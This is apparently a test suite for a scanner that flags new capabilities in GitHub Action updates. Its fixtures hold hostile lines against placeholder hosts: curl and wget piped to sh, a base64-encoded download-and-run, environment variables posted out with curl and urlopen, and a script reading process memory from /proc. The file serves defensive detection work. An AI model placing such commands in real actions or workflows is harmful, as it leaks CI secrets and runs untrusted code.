import { analyse } from '../../../../../src/adapters/artifacts/analysis/analyse.ts';
import { defaultLimits } from '../../../../../src/adapters/artifacts/limits.ts';
import type { ArchiveDelta } from '../../../../../src/domain/facts.ts';
import { tarGz, type ArchiveFiles } from '../../../../fakes/archives.ts';

async function delta(before: ArchiveFiles, after: ArchiveFiles, actionFolder = ''): Promise<ArchiveDelta> {
  const archive = (files: ArchiveFiles) => ({ fileName: 'o-r.tar.gz', bytes: tarGz(files, 'o-r-0123') });
  const task = {
    ecosystem: 'githubactions' as const,
    before: archive(before),
    after: archive(after),
    companion: undefined,
    registry: undefined,
    limits: defaultLimits,
    actionFolder,
    stated: { registry: [], lockfile: [], ofOneFile: true },
  };
  return await analyse(task, () => undefined);
}

const seen = ({ capabilities }: ArchiveDelta): readonly string[] =>
  capabilities.map(({ kind, path, line, reach }) => `${kind} ${path}:${line} ${reach}`);

const node = 'runs:\n  using: node20\n  main: dist/index.js\n';
const main = "const exec = require('@actions/exec');\nexec.exec('git', ['diff']);\n";
const composite =
  'runs:\n  using: composite\n  steps:\n    - run: $GITHUB_ACTION_PATH/entrypoint.sh\n      shell: bash\n';
const script = '#!/bin/bash\nset -e\nscan .\n';

describe('what an action newly does', () => {
  it('is told of a program that unpacks a script and prints what it finds in memory', async () => {
    const hidden = Buffer.from('curl -sSf https://gist.example/dump.py | sudo python3 | base64 -w 0\n').toString(
      'base64',
    );
    const found = await delta(
      { 'action.yml': node, 'dist/index.js': main },
      {
        'action.yml': node,
        'dist/index.js': `${main}exec.exec('bash', ['-c', \`echo "${hidden}" | base64 -d > /tmp/run.sh && bash /tmp/run.sh\`]);\n`,
      },
    );
    expect(seen(found)).toEqual(
      expect.arrayContaining(['download-and-run dist/index.js:3 startup', 'encoded-payload dist/index.js:3 startup']),
    );
  });

  it('is told of a script that a step starts, and of what that loads', async () => {
    const collector = 'import os\nfor pid in os.listdir("/proc"):\n    print(open(f"/proc/{pid}/mem", "rb").read())\n';
    const found = await delta(
      { 'action.yml': composite, 'entrypoint.sh': script },
      {
        'action.yml': composite,
        'entrypoint.sh': `${script}env | curl -X POST -d @- https://c.example/\npython3 lib/dump.py\n`,
        'lib/dump.py': collector,
      },
    );
    expect(seen(found)).toEqual(
      expect.arrayContaining(['secrets-sent entrypoint.sh:4 startup', 'credential-path lib/dump.py:3 startup']),
    );
  });

  it('is told of the commands of its own image', async () => {
    const docker = 'runs:\n  using: docker\n  image: Dockerfile\n';
    const found = await delta(
      { 'action.yml': docker, Dockerfile: 'FROM alpine:3\nCOPY . /app\n', 'tool/run.py': 'print(1)\n' },
      {
        'action.yml': docker,
        Dockerfile: 'FROM alpine:3\nCOPY . /app\nRUN wget -qO- https://x.example/i.sh | sh\n',
        'tool/run.py':
          'import os, json, urllib.request\nurllib.request.urlopen("https://c.example", json.dumps(dict(os.environ)))\n',
      },
    );
    expect(seen(found)).toEqual(
      expect.arrayContaining(['download-and-run Dockerfile:3 startup', 'secrets-sent tool/run.py:2 startup']),
    );
  });

  it('is nothing where only code changed that no job runs', async () => {
    const steals = 'require("child_process").exec("curl https://x.example/i.sh | sh")\n';
    const found = await delta(
      { 'action.yml': node, 'dist/index.js': main, 'src/main.ts': 'a()' },
      {
        'action.yml': node,
        'dist/index.js': main,
        'src/main.ts': steals,
        'scripts/release.js': steals,
        '__tests__/a.test.js': steals,
        'other/action.yml': 'runs:\n  using: node20\n  main: x.js\n',
        'other/x.js': steals,
      },
    );
    expect(found).toMatchObject({ capabilities: [], added: [], changed: [], notRead: [] });
  });

  it('is nothing where a step goes on fetching what it always fetched', async () => {
    const step = (version: string, more = ''): string =>
      `runs:\n  using: composite\n  steps:\n${more}    - name: Install\n      shell: bash\n      run: curl -sSf https://x.example/${version}/i.sh | sh\n`;
    const found = await delta(
      { 'action.yml': step('1.0') },
      { 'action.yml': step('1.1', '    - shell: bash\n      run: echo hello\n') },
    );
    expect(found.capabilities).toEqual([]);
  });

  it('is told of a script from another host, though it always ran one from its own', async () => {
    const step = (more: string): string =>
      `runs:\n  using: composite\n  steps:\n    - shell: bash\n      run: |\n        curl -s https://own.example/i.sh | sh\n${more}`;
    const found = await delta(
      { 'action.yml': step('') },
      { 'action.yml': step('        curl -s https://else.example/i.sh | sh\n') },
    );
    expect(seen(found)).toContain('download-and-run action.yml:7 startup');
  });

  it('is asked of the action in the folder that is used, with the actions beside it that it uses', async () => {
    const inner = (line: string): string =>
      `runs:\n  using: composite\n  steps:\n    - shell: bash\n      run: ${line}\n`;
    const outer = 'runs:\n  using: composite\n  steps:\n    - uses: ./parts/inner\n';
    const found = await delta(
      { 'tools/scan/action.yaml': outer, 'parts/inner/action.yml': inner('make'), 'action.yml': inner('make') },
      {
        'tools/scan/action.yaml': outer,
        'parts/inner/action.yml': inner('curl https://x.example/i.sh | sh'),
        'action.yml': inner('make all'),
      },
      'tools/scan',
    );
    expect(seen(found)).toContain('download-and-run parts/inner/action.yml:5 startup');
    expect(found.changed.map(({ path }) => path)).toEqual(['parts/inner/action.yml']);
  });

  it('takes a Dockerfile for the action where there is no other file', async () => {
    const found = await delta(
      { Dockerfile: 'FROM a:1\n' },
      { Dockerfile: 'FROM a:1\nRUN curl https://x.example | sh\n' },
    );
    expect(seen(found)).toContain('download-and-run Dockerfile:2 startup');
  });

  it('cannot be told where the program is no file of the archive', async () => {
    const found = await delta({ 'action.yml': node, 'dist/index.js': main }, { 'action.yml': node });
    expect(found.cutShort).toContain('runs.main names dist/index.js');
  });

  it('cannot be told where there is no action', async () => {
    const found = await delta({ 'a.md': 'a' }, { 'a.md': 'b' });
    expect(found).toMatchObject({ fileCount: { before: 0, after: 0 }, notRead: expect.any(Array) });
    expect(found.notRead.join()).toContain('no action in its root folder');
  });
});
